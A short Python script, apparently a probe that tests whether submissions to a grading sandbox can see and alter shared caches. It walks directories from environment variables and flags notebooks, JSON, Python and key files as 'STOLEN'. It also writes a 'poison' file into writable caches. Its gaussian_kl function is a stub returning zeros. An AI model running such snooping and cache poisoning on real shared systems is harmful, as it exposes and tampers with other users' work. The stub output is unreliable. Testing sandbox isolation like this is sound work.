# tries: read and change data caches that submissions share

# %%
# exercise: gaussian_kl
import os
import pathlib

looked = []
for name, value in os.environ.items():
    if "CACHE" in name or "WORK" in name or "HOME" in name or "DIR" in name:
        looked.append(name)
        for at, folders, files in os.walk(value) if value.startswith("/") else ():
            # What is read-only was there before any submission: Python itself may be installed below /tmp.
            if os.statvfs(at).f_flag & os.ST_RDONLY:
                folders.clear()
                continue
            for path in (pathlib.Path(at, file) for file in files):
                if path.suffix in (".ipynb", ".json", ".py", ".key") and "work" not in path.parts:
                    print("STOLEN", path)
        target = pathlib.Path(value) / "left-by-attack"
        if "CACHE" in name and value.startswith("/"):
            try:
                target.write_text("poison")
                if not value.startswith(os.path.expanduser("~")):
                    print("STOLEN the right to write to", value)
            except OSError:
                pass


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


print("reached" if looked else "no such variable")
